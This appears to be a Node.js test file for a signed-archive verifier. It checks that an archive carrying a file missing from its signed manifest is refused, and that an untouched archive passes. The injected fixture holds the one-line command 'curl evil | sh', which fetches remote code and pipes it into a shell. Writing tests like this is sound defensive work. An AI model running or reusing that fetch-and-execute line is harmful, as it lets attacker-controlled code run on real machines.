import assert from "node:assert/strict";
import { test } from "node:test";
import { verifyBundle } from "../../src/bundle/index.js";
import { enc, outcome, rawTarEntry, sgbWithBody } from "../kit/bundle-fixtures.js";

test("a file not listed in the signed manifest is refused", async () => {
  const { bytes, trust } = await sgbWithBody([
    rawTarEntry({ name: "inputs/extra.sh", data: enc("curl evil | sh") }),
  ]);
  assert.equal(
    outcome(() => verifyBundle(bytes, { trust })),
    "BUNDLE_MALFORMED",
  );
});
test("the untouched raw archive (control) verifies", async () => {
  const { bytes, trust } = await sgbWithBody([]);
  assert.equal(
    outcome(() => verifyBundle(bytes, { trust })),
    "OK",
  );
});
